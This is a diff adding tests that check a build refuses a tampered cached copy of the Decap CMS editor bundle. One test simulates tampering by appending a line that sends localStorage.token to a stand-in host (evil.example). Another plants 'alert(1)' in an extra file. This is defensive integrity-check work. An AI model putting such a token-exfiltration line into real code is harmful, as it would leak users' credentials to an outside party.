@@ -97,6 +97,32 @@ test(`the build fetches the release the editor's lock records, and keeps only th
   expect(askedOfNpm()).toBe(``)
 })
 
+test.each([
+  [`a kept file`, `512.decap-cms.js`, `512.decap-cms.js is not the tarball's`],
+  [`the kept tarball`, `release.tgz`, `its tarball's integrity is sha512-`],
+])(
+  `%s changed after it was fetched (a host's cache, a local edit) stops the next copy`,
+  async (_what, file, saying) => {
+    const project = projectWithEditorPackage(`9.9.9`, `9.9.9`, tarballIntegrity)
+    await editorBundleFiles(project, standInNpm)
+    const kept = path.join(project, `node_modules`, `.cache`, `decap-cms-9.9.9`)
+    fs.appendFileSync(path.join(kept, file), `;fetch("https://evil.example/?" + localStorage.token)`)
+
+    await expect(editorBundleFiles(project, standInNpm)).rejects.toThrow(
+      `The kept copy of the content editor's bundle (decap-cms@9.9.9) has changed since it was fetched: ${saying}`,
+    )
+  },
+)
+
+test(`a kept file the tarball does not hold stops the next copy`, async () => {
+  const project = projectWithEditorPackage(`9.9.9`, `9.9.9`, tarballIntegrity)
+  await editorBundleFiles(project, standInNpm)
+  const kept = path.join(project, `node_modules`, `.cache`, `decap-cms-9.9.9`)
+  fs.writeFileSync(path.join(kept, `666.decap-cms.js`), `alert(1)`)
+
+  await expect(editorBundleFiles(project, standInNpm)).rejects.toThrow(/where the tarball has/)
+})
+
 test(`a tarball that is not the one the lock records is refused, and nothing of it is kept`, async () => {
   const otherIntegrity = `sha512-${createHash(`sha512`).update(`another decap-cms`).digest(`base64`)}`
   const project = projectWithEditorPackage(`9.9.9`, `9.9.9`, otherIntegrity)
